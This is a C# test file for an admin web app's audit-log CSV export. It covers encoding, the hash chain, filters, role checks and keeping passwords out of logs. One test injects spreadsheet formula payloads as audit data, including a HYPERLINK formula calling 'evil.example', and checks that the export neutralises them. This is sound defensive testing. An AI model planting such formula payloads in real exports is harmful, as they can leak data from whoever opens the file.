using System.Net;
using System.Text;
using System.Text.Json;
using Dapper;
using ESeal.Db.Repositories;
using ESeal.Db.Staff;
using ESeal.Web.Staff;
using Microsoft.Data.Sqlite;

namespace ESeal.Tests.Admin;

/// <summary>"导出CSV" as Excel and an attacker would meet it, and who may export or verify at all.</summary>
public sealed class AuditExportTests(AdminWebFixture web) : IClassFixture<AdminWebFixture>
{
    [Fact]
    public async Task The_export_is_UTF8_with_BOM_a_Chinese_header_readable_Chinese_and_an_attachment_name_with_the_time()
    {
        using (await AdminClient.SignedInAsync(web.Factory, "operator"))
        {
        }

        using var auditor = await AdminClient.SignedInAsync(web.Factory, "auditor");
        var (response, bytes) = await ExportAsync(auditor, "");
        Assert.Equal("text/csv; charset=utf-8", response.Content.Headers.ContentType!.ToString());
        Assert.Matches("^attachment; filename=audit-\\d{8}-\\d{6}\\.csv$", response.Content.Headers.ContentDisposition!.ToString());
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);

        var rows = Csv.Parse(Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3));
        Assert.Equal(["序号", "时间（北京时间）", "类型", "操作人", "企业", "印章", "数据", "哈希", "前一哈希"], rows[0]);
        var signIn = rows.Skip(1).First(r => r[3] == "staff:operator" && r[2] == "工作人员登录");
        Assert.Matches("^\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}:\\d{2}$", signIn[1]);
        Assert.Matches("^[0-9a-f]{64}$", signIn[7]);

        // Oldest first, each row's 前一哈希 the previous row's 哈希: the chain can be followed in the file.
        var body = rows.Skip(1).ToList();
        Assert.Equal(AuditLog.Genesis, body[0][8]);
        for (var i = 1; i < body.Count; i++)
        {
            Assert.Equal(body[i - 1][7], body[i][8]);
        }
    }

    [Fact]
    public async Task Cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote_and_RFC4180_quoting_keeps_commas_quotes_and_newlines()
    {
        var marker = Guid.NewGuid().ToString("N")[..8];
        await AuditPage.AppendAsync(web.Factory, new AuditEvent { Kind = AuditKinds.OutboxRetried, Actor = "=HYPERLINK(\"http://evil.example/?" + marker + "\")", Data = "+SUM(1,2)" });
        await AuditPage.AppendAsync(web.Factory, new AuditEvent { Kind = AuditKinds.OutboxRetried, Actor = "@" + marker, Data = "-2+3" });
        await AuditPage.AppendAsync(web.Factory, new AuditEvent { Kind = AuditKinds.OutboxRetried, Actor = "test:" + marker, Data = "{\"note\":\"a,\\\"b\\\"\\nc\",\"名称\":\"杭州\"}" });
        await AuditPage.AppendAsync(web.Factory, new AuditEvent { Kind = AuditKinds.OutboxRetried, Actor = "\tcmd-" + marker, Data = "\r=1" });

        using var auditor = await AdminClient.SignedInAsync(web.Factory, "auditor");
        var (_, bytes) = await ExportAsync(auditor, "?kind=OutboxRetried");
        var text = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
        var rows = Csv.Parse(text);

        var hyperlink = rows.Single(r => r[3].Contains(marker, StringComparison.Ordinal) && r[3].Contains("HYPERLINK", StringComparison.Ordinal));
        Assert.Equal("'=HYPERLINK(\"http://evil.example/?" + marker + "\")", hyperlink[3]);
        Assert.Equal("'+SUM(1,2)", hyperlink[6]);
        var at = rows.Single(r => r[3] == "'@" + marker);
        Assert.Equal("'-2+3", at[6]);
        var tab = rows.Single(r => r[3] == "'\tcmd-" + marker);
        Assert.Equal("'\r=1", tab[6]);
        var quoted = rows.Single(r => r[3] == "test:" + marker);
        Assert.Equal("{\"note\":\"a,\\\"b\\\"\\nc\",\"名称\":\"杭州\"}", quoted[6]);

        // No cell anywhere starts with a formula character.
        Assert.All(rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), cell));
        Assert.All(rows, r => Assert.True(r.Count == 9 || r.Count == 1));
    }

    [Fact]
    public async Task The_export_follows_the_filters_and_is_audited_with_them_and_the_row_count()
    {
        using (await AdminClient.SignedInAsync(web.Factory, "operator"))
        {
        }

        using var auditor = await AdminClient.SignedInAsync(web.Factory, "auditor");
        var (_, bytes) = await ExportAsync(auditor, "?kind=StaffSignedIn&staff=operator");
        var rows = Csv.Parse(Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3)).Skip(1).ToList();
        Assert.NotEmpty(rows);
        Assert.All(rows, r => Assert.Equal(("工作人员登录", "staff:operator"), (r[2], r[3])));

        await using var db = await OpenAsync();
        var (actor, data) = await db.QuerySingleAsync<(string, string)>("SELECT actor, data FROM audit_events WHERE kind = 'AuditExported' ORDER BY seq DESC LIMIT 1");
        Assert.Equal("staff:auditor", actor);
        using var doc = JsonDocument.Parse(data);
        Assert.Equal(rows.Count, doc.RootElement.GetProperty("rows").GetInt32());
        Assert.False(doc.RootElement.GetProperty("capped").GetBoolean());
        Assert.Equal("StaffSignedIn", doc.RootElement.GetProperty("filters").GetProperty("kind").GetString());
        Assert.Equal("operator", doc.RootElement.GetProperty("filters").GetProperty("staff").GetString());

        // The export's own audit event is not in the file it describes; the next export has it.
        var (_, again) = await ExportAsync(auditor, "?kind=AuditExported");
        var exported = Csv.Parse(Encoding.UTF8.GetString(again, 3, again.Length - 3)).Skip(1).ToList();
        Assert.Contains(exported, r => r[3] == "staff:auditor" && r[6].Contains("\"staff\":\"operator\"", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Bad_filters_on_the_export_lead_back_to_the_list_with_the_message_and_nothing_is_exported()
    {
        using var auditor = await AdminClient.SignedInAsync(web.Factory, "auditor");
        var before = await CountAsync("AuditExported");
        using var response = await auditor.Http.GetAsync(new Uri("/admin/audit/export?from=2026-13-01&staff=operator", UriKind.Relative));
        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        var location = response.Headers.Location!.ToString();
        Assert.Equal("/admin/audit?from=2026-13-01&staff=operator", location);
        var html = await auditor.GetHtmlAsync(location);
        Assert.Contains("id=\"audit-from-error\"", html, StringComparison.Ordinal);
        Assert.Equal(before, await CountAsync("AuditExported"));
    }

    [Fact]
    public async Task Passwords_typed_at_sign_in_reach_neither_the_audit_data_nor_the_export()
    {
        const string wrongPassword = "Wr0ng-Secret-9917!";
        const string typedAsName = "Typed-Secret-5531";
        const string otherPassword = "Pw-Secret-2288#";
        using (var anonymous = AdminClient.Anonymous(web.Factory))
        {
            Assert.Equal(HttpStatusCode.OK, (await anonymous.SignInAsync("operator", wrongPassword)).StatusCode);
            Assert.Equal(HttpStatusCode.OK, (await anonymous.SignInAsync(typedAsName, otherPassword)).StatusCode);
        }

        await using var db = await OpenAsync();
        var data = (await db.QueryAsync<string>("SELECT data FROM audit_events")).ToList();
        Assert.Contains(await db.QueryAsync<string>("SELECT actor FROM audit_events WHERE kind = 'StaffSignInFailed'"), a => a == "staff:operator");
        foreach (var secret in new[] { wrongPassword, typedAsName, otherPassword, DemoStaff.Password })
        {
            Assert.DoesNotContain(data, d => d.Contains(secret, StringComparison.Ordinal));
        }

        using var auditor = await AdminClient.SignedInAsync(web.Factory, "auditor");
        var (_, bytes) = await ExportAsync(auditor, "");
        var csv = Encoding.UTF8.GetString(bytes);
        Assert.Contains("工作人员登录失败", csv, StringComparison.Ordinal);
        foreach (var secret in new[] { wrongPassword, typedAsName, otherPassword, DemoStaff.Password })
        {
            Assert.DoesNotContain(secret, csv, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task Staff_without_the_auditor_role_get_403_on_the_export_and_the_chain_check_and_nothing_is_recorded()
    {
        var exported = await CountAsync("AuditExported");
        var verified = await CountAsync("AuditChainVerified");
        foreach (var (username, _, role) in DemoStaff.Accounts.Where(a => a.Role != StaffRoles.Auditor))
        {
            using var staff = await AdminClient.SignedInAsync(web.Factory, username);
            using var export = await staff.Http.GetAsync(new Uri("/admin/audit/export?kind=Bind", UriKind.Relative));
            Assert.True(export.StatusCode == HttpStatusCode.Forbidden, $"{role} export: {(int)export.StatusCode}");
            Assert.Contains("没有权限", await export.Content.ReadAsStringAsync(), StringComparison.Ordinal);

            // A valid antiforgery token from a page they may open: only the role stands in the way.
            using var verify = await staff.PostFormAsync("/admin/account/password", "/admin/audit?handler=Verify", []);
            Assert.True(verify.StatusCode == HttpStatusCode.Forbidden, $"{role} verify: {(int)verify.StatusCode}");

            using var detail = await staff.Http.GetAsync(new Uri("/admin/audit/1", UriKind.Relative));
            Assert.True(detail.StatusCode == HttpStatusCode.Forbidden, $"{role} detail: {(int)detail.StatusCode}");
        }

        using (var anonymous = AdminClient.Anonymous(web.Factory))
        {
            using var export = await anonymous.Http.GetAsync(new Uri("/admin/audit/export", UriKind.Relative));
            Assert.Equal(HttpStatusCode.Redirect, export.StatusCode);
            Assert.StartsWith("https://localhost/admin/login", export.Headers.Location!.ToString(), StringComparison.Ordinal);
            using var verify = await anonymous.PostFormAsync("/admin/login", "/admin/audit?handler=Verify", []);
            Assert.NotEqual(HttpStatusCode.OK, verify.StatusCode);
            Assert.False(verify.Headers.Location?.ToString().Contains("verified=", StringComparison.Ordinal) ?? false);
        }

        // The auditor without a token is refused too (antiforgery).
        using var auditor = await AdminClient.SignedInAsync(web.Factory, "auditor");
        using var forged = await auditor.Http.PostAsync(new Uri("/admin/audit?handler=Verify", UriKind.Relative), new FormUrlEncodedContent([]));
        Assert.Equal(HttpStatusCode.BadRequest, forged.StatusCode);

        Assert.Equal(exported, await CountAsync("AuditExported"));
        Assert.Equal(verified, await CountAsync("AuditChainVerified"));
    }

    private static async Task<(HttpResponseMessage Response, byte[] Bytes)> ExportAsync(AdminClient auditor, string query)
    {
        var response = await auditor.Http.GetAsync(new Uri("/admin/audit/export" + query, UriKind.Relative));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return (response, await response.Content.ReadAsByteArrayAsync());
    }

    private async Task<long> CountAsync(string kind)
    {
        await using var db = await OpenAsync();
        return await db.ExecuteScalarAsync<long>("SELECT COUNT(*) FROM audit_events WHERE kind = @kind", new { kind });
    }

    private async Task<SqliteConnection> OpenAsync()
    {
        _ = web.Factory.Services;
        var db = new SqliteConnection(web.Factory.ConnectionString);
        await db.OpenAsync();
        return db;
    }
}

/// <summary>A strict RFC 4180 reader: what Excel would make of the export.</summary>
internal static class Csv
{
    public static List<List<string>> Parse(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var i = 0;
        while (i < text.Length)
        {
            if (text[i] == '"' && cell.Length == 0)
            {
                i++;
                while (true)
                {
                    Assert.True(i < text.Length, "unterminated quoted cell");
                    if (text[i] == '"')
                    {
                        if (i + 1 < text.Length && text[i + 1] == '"')
                        {
                            cell.Append('"');
                            i += 2;
                            continue;
                        }

                        i++;
                        break;
                    }

                    cell.Append(text[i++]);
                }

                Assert.True(i == text.Length || text[i] == ',' || text[i] == '\r', $"text after a closing quote at {i}");
                continue;
            }

            switch (text[i])
            {
                case ',':
                    row.Add(cell.ToString());
                    cell.Clear();
                    i++;
                    break;
                case '\r':
                    Assert.True(i + 1 < text.Length && text[i + 1] == '\n', "a row must end with CRLF");
                    row.Add(cell.ToString());
                    cell.Clear();
                    rows.Add(row);
                    row = [];
                    i += 2;
                    break;
                case '\n':
                    Assert.Fail("a bare LF outside quotes");
                    break;
                case '"':
                    Assert.Fail("a quote inside an unquoted cell");
                    break;
                default:
                    cell.Append(text[i++]);
                    break;
            }
        }

        Assert.True(cell.Length == 0 && row.Count == 0, "the file must end with CRLF");
        return rows;
    }
}
